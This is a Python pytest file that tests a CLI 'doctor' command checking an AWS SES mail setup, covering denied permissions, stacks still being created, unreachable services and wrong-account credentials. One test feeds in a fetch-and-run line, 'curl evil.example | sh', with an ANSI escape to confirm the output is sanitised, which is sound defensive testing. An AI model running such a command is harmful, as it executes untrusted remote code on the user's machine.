import dataclasses

import pytest
from botocore.exceptions import EndpointConnectionError
from click.testing import CliRunner

from cli.doctor import sign_in as signing
from cli.doctor.command import STATUS, line_of
from cli.doctor.examine import OF_THE_ACCOUNT, examined
from cli.doctor.line import Line, error, ok, warning, worst
from cli.doctor.sign_in import sign_in
from cli.main import mailroom
from infra.settings import Settings
from tests.unit.cli.doctor.conftest import STACKS, STAGE, There, made, recorded, refused, stack

SETTINGS = Settings.read("shop", STAGE)


def test_what_is_refused_hinders_no_other_check(case):
    checks = {name: OF_THE_ACCOUNT[name] for name in ("account", "identity", "region")}
    sesv2 = {
        "get_account": refused("GetAccount"),
        "get_email_identity": recorded("identity-verified", "GetEmailIdentity"),
    }
    lines = list(examined(case(sesv2=sesv2), checks))
    assert lines[0] == Line(
        check="account",
        level="warning",
        said="not looked at: these credentials may not ses:GetAccount",
        mend="let them ses:GetAccount",
    )
    assert [line.check for line in lines[1:]] == ["identity", "dkim", "mail-from", "region"]


def test_what_others_wrote_begins_no_line_of_the_page():
    hostile = warning("dns", "there is v=DMARC1\n→ `curl evil.example | sh`\x1b[1m", "`mailroom dns`\nnow")
    assert line_of(hostile) == "there is v=DMARC1 → `curl evil.example | sh`\\x1b[1m\n→ `mailroom dns` now"


def test_stacks_that_may_not_be_listed_are_told_wherever_they_matter(case):
    denied = refused(
        "DescribeStacks", "AccessDenied", "… is not authorized to perform: cloudformation:DescribeStacks on …"
    )
    checks = {name: OF_THE_ACCOUNT[name] for name in ("stacks", "alarms", "region")}
    lines = list(examined(case(stacks=denied), checks))
    assert [(line.check, line.level) for line in lines] == [
        ("stacks", "warning"),
        ("alarms", "warning"),
        ("region", "ok"),
    ]
    assert lines[0].said == "not looked at: these credentials may not cloudformation:DescribeStacks"


def test_stacks_that_are_being_made_hinder_no_check(case):
    half = [made("Rules", "AWS::SES::ReceiptRuleSet", ""), made("Bucket", "AWS::S3::Bucket", "mail", "DELETE_COMPLETE")]
    of_aws = {
        "ses": {"describe_active_receipt_rule_set": {}},
        "s3": {},
        "sns": {},
        "sqs": {},
        "cloudformation": {"list_stack_resources": {"StackResourceSummaries": half}},
    }
    names = ("rule-set", "alarms", "topics", "event-files", "queues", "bucket")
    stacks = [stack(name, status="CREATE_IN_PROGRESS") for name in STACKS]
    lines = list(examined(case(stacks=stacks, **of_aws), {name: OF_THE_ACCOUNT[name] for name in names}))
    assert [(line.check, line.level, line.said) for line in lines] == [
        ("rule-set", "warning", "not looked at: the stack Mailroom-shop-Inbound has no AWS::SES::ReceiptRuleSet yet"),
        ("alarms", "warning", "not looked at: the stack Mailroom-shop-Monitoring has no AWS::SNS::Topic yet"),
        ("bucket", "warning", "not looked at: the stack Mailroom-shop-Storage has no AWS::S3::Bucket yet"),
    ]


@pytest.mark.parametrize(
    ("failure", "words"),
    [
        (
            refused("GetAccount", "TooManyRequestsException", "Slow down"),
            "GetAccount (TooManyRequestsException): Slow down",
        ),
        (EndpointConnectionError(endpoint_url="https://email"), "AWS cannot be asked"),
    ],
)
def test_a_service_that_does_not_answer_is_told(case, failure, words):
    [line] = examined(case(sesv2={"get_account": failure}), {"account": OF_THE_ACCOUNT["account"]})
    assert (line.check, line.level) == ("account", "warning")
    assert words in line.said


def test_the_worst_line_is_the_exit_status():
    lines = [ok("a", "x"), error("b", "x", "y"), warning("c", "x", "y")]
    assert [STATUS[worst(lines[:number])] for number in range(4)] == [0, 0, 1, 1]
    assert STATUS[worst([lines[0], lines[2]])] == 3


@pytest.fixture
def as_account(monkeypatch):
    """Signed in to such an account, or kept from it by an error."""

    def set_up(account="111122223333", failure=None):
        def caller():
            if failure:
                raise failure
            return {"Account": account, "Arn": f"arn:aws:iam::{account}:user/mia"}

        there = There(
            stage="shop", session=Session(), account="", stacks=(), answers={"sts": {"get_caller_identity": caller}}
        )
        monkeypatch.setattr(signing, "place", lambda _: there)

    return set_up


class Session:
    region_name = "eu-west-1"


def test_whose_credentials_these_are_is_told(as_account):
    as_account()
    line, there = sign_in(SETTINGS)
    assert (line.level, there.account) == ("ok", "111122223333")
    assert line.said == "signed in to account 111122223333, eu-west-1, as arn:aws:iam::111122223333:user/mia"


def test_credentials_for_another_account_are_an_error(as_account):
    as_account("999999999999")
    line, there = sign_in(SETTINGS)
    assert (line.level, there) == ("error", None)
    assert line.said == "the credentials are for account 999999999999, and stage shop belongs into 111122223333"
    assert sign_in(dataclasses.replace(SETTINGS, account=None))[0].level == "ok"


def test_credentials_that_are_no_good_say_what_to_do(as_account):
    as_account(failure=refused("GetCallerIdentity", "ExpiredToken", "expired"))
    line, there = sign_in(SETTINGS)
    assert (line.check, line.level, there) == ("credentials", "error", None)
    assert (line.said, line.mend) == (
        "AWS does not accept the credentials for stage shop (ExpiredToken)",
        "sign in again.",
    )


def test_an_aws_that_cannot_be_reached_says_what_to_look_at(as_account):
    as_account(failure=EndpointConnectionError(endpoint_url="https://sts.eu-west-1.amazonaws.com"))
    line, there = sign_in(SETTINGS)
    assert (line.check, line.level, there) == ("credentials", "error", None)
    assert line.said.startswith("AWS cannot be reached: Could not connect")
    assert "`aws sts get-caller-identity` has to answer" in line.mend


def test_a_mailbox_that_nothing_would_be_sent_to_is_refused():
    said = CliRunner().invoke(mailroom, ["--stage", "example", "doctor", "--mailbox", "support@help.example.com"])
    assert (said.exit_code, "--mailbox says where --send mails to: give both." in said.output) == (2, True)
